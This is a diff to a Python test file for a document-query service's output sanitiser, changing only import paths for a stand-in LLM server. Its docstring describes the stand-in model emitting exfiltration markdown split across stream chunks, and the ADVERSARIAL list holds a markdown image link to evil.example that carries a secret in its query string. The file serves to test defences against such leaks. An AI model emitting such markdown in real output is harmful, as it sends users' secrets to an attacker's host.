@@ -1,6 +1,6 @@
 """Output sanitising: a property test over split streams, and the stand-in LLM trying to exfiltrate.
 
-The stand-in (not vLLM; tests/standins/openai_server.py) emits exfiltration
+The stand-in (not vLLM; tests/support/standins/openai_server.py) emits exfiltration
 markdown split across stream chunks at awkward places. The client must
 receive none of it, in /v1/query (JSON and SSE) and the chat facade (JSON
 and stream).
@@ -18,7 +18,7 @@ from hypothesis import strategies as st
 
 from docquery.rag.sanitize import Sanitizer, StreamSanitizer
 from tests.api.conftest import Harness, JwtIssuer, bearer, chat_stream_text, llm_generator, make_harness, sse_events
-from tests.standins.openai_server import StandInOpenAIServer
+from tests.support.standins.openai_server import StandInOpenAIServer
 
 ADVERSARIAL = [
     "![logo](https://evil.example/c?d=SECRET)",
